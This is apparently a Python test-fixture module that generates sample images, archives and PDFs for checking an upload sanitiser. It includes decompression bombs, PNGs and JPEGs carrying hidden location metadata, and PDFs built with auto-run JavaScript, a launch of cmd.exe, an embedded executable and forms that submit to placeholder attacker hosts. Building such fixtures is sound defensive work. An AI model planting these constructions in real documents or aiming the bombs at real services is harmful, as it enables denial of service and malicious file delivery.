"""Files as people send them, and as attackers make them. Everything in them is invented."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

HTML = b"<html><script>alert('jahat')</script></html>"
SECRET_PLACE = "Jalan Rahasia Nomor Satu"


def picture(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    """A picture with a dark left half and a light right one."""
    made = Image.new(mode, size, 0 if mode in {"L", "P"} else (20,) * len(mode))
    made.paste(
        Image.new(mode, (size[0] // 2, size[1]), 255 if mode in {"L", "P"} else (230,) * len(mode)), (size[0] // 2, 0)
    )
    return made


def jpeg(size: tuple[int, int] = (64, 48), *, orientation: int = 1, comment: bytes = b"") -> bytes:
    """A photo as a phone makes it: with the place where it was taken."""
    exif = Image.Exif()
    exif[0x010E] = SECRET_PLACE
    exif[0x0112] = orientation
    exif.get_ifd(0x8825).update({1: "S", 2: (6.0, 12.0, 0.0), 3: "E", 4: (106.0, 49.0, 0.0)})
    into = io.BytesIO()
    picture(size).save(into, "JPEG", exif=exif, comment=comment)
    return into.getvalue()


def png(size: tuple[int, int] = (64, 48), mode: str = "RGB", *, text: str = SECRET_PLACE) -> bytes:
    """A screenshot, with a text inside that nobody sees."""
    info = PngInfo()
    info.add_text("Comment", text)
    into = io.BytesIO()
    picture(size, mode).save(into, "PNG", pnginfo=info)
    return into.getvalue()


def webp(size: tuple[int, int] = (64, 48)) -> bytes:
    """What some phones send."""
    into = io.BytesIO()
    picture(size).save(into, "WEBP")
    return into.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """A piece of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int) -> bytes:
    """A PNG of a few bytes that claims to be huge."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(64))) + chunk(b"IEND", b"")
    )


def png_bomb(side: int) -> bytes:
    """A sound PNG of one colour: some kilobytes that unfold to `side` squared points."""
    pack = zlib.compressobj(9)
    row = bytes(1 + 3 * side)
    packed = b"".join(pack.compress(row) for _ in range(side)) + pack.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    """A small picture whose comment unfolds to 64 MB."""
    bomb = b"Comment\0\0" + zlib.compress(b"A" * (64 * 1024 * 1024), 9)
    whole = png()
    return whole[:33] + chunk(b"zTXt", bomb) + whole[33:]


def archive() -> bytes:
    """A ZIP (which a JAR is, too)."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("Jahat.class", b"\xca\xfe\xba\xbe" + bytes(1_000_000))
    return into.getvalue()


def gif() -> bytes:
    """A picture of a kind that is not taken."""
    into = io.BytesIO()
    picture(mode="P").save(into, "GIF")
    return into.getvalue()


def pdf(pages: int = 1, change: Callable[[PdfWriter], None] = lambda _: None, *, password: str = "") -> bytes:
    """A letter; `change` adds to it what should not be there."""
    writer = PdfWriter()
    for _ in range(pages):
        page = writer.add_blank_page(200, 300)
        shown = DecodedStreamObject()
        shown.set_data(b"BT (Surat keterangan) Tj ET")
        page[NameObject("/Contents")] = writer._add_object(shown)
    writer.add_metadata({"/Author": SECRET_PLACE})
    change(writer)
    if password:
        writer.encrypt(password, algorithm="AES-256")
    into = io.BytesIO()
    writer.write(into)
    return into.getvalue()


def entry(**fields: object) -> DictionaryObject:
    """A dictionary of a PDF: names begin with a slash, everything else is as it is."""
    made = DictionaryObject()
    for key, value in fields.items():
        made[NameObject(f"/{key}")] = _thing(value)
    return made


def _thing(value: object) -> object:
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, bytes):
        return ByteStringObject(value)
    return ArrayObject(map(_thing, value)) if isinstance(value, list) else value


def opening(action: DictionaryObject) -> Callable[[PdfWriter], None]:
    """Something happens when the letter is opened."""

    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return change


def on_page(action: DictionaryObject, key: str = "/AA") -> Callable[[PdfWriter], None]:
    """Something happens when the page is shown."""

    def change(writer: PdfWriter) -> None:
        writer.pages[0][NameObject(key)] = action

    return change


def noted(note: DictionaryObject) -> Callable[[PdfWriter], None]:
    """A note, a link or a field on the page."""

    def change(writer: PdfWriter) -> None:
        note[NameObject("/Rect")] = ArrayObject([NumberObject(0)] * 4)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return change


def link(address: str = "https://contoh.example/") -> DictionaryObject:
    """A link to somewhere, as word processors make them."""
    return entry(Type="/Annot", Subtype="/Link", A=entry(S="/URI", URI=address))


def with_file(writer: PdfWriter) -> None:
    """Another file inside."""
    writer.add_attachment("jahat.exe", b"MZ" + HTML)


def with_form(writer: PdfWriter) -> None:
    """A form of the kind that is a program."""
    form = DecodedStreamObject()
    form.set_data(b"<xdp/>")
    writer._root_object[NameObject("/AcroForm")] = entry(XFA=writer._add_object(form), Fields=[])


def by_name(action: DictionaryObject) -> Callable[[PdfWriter], None]:
    """A script in the document's list of scripts, which readers run by themselves."""

    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/Names")] = entry(JavaScript=entry(Names=["a", writer._add_object(action)]))

    return change


ACTIVE: dict[str, bytes] = {}
"""PDFs that do something, by what they do."""


def active() -> dict[str, bytes]:
    """Made when they are first asked for."""
    if not ACTIVE:
        script = entry(S="/JavaScript", JS="app.alert(1)")
        ACTIVE.update(
            {
                "script on opening": pdf(1, opening(script)),
                "script by name": pdf(1, by_name(script)),
                "script on the page": pdf(1, on_page(entry(O=script))),
                "script in a note": pdf(1, noted(entry(Type="/Annot", Subtype="/Widget", A=script))),
                "script after another action": pdf(1, opening(entry(S="/GoTo", D=[0, "/Fit"], Next=script))),
                "program": pdf(1, opening(entry(S="/Launch", F="cmd.exe"))),
                "address on opening": pdf(1, opening(entry(S="/URI", URI="https://jahat.example/"))),
                "address on the page": pdf(1, on_page(entry(O=entry(S="/URI", URI="https://jahat.example/")))),
                "form that sends": pdf(
                    1, noted(entry(Subtype="/Widget", A=entry(S="/SubmitForm", F="https://j.example")))
                ),
                "other document": pdf(1, noted(entry(Subtype="/Link", A=entry(S="/GoToR", F="//jahat/x.pdf")))),
                "file inside": pdf(1, with_file),
                "note with a file": pdf(1, noted(entry(Subtype="/FileAttachment", FS=entry(Type="/Filespec")))),
                "form of XFA": pdf(1, with_form),
                "film": pdf(1, noted(entry(Subtype="/RichMedia"))),
            }
        )
    return ACTIVE
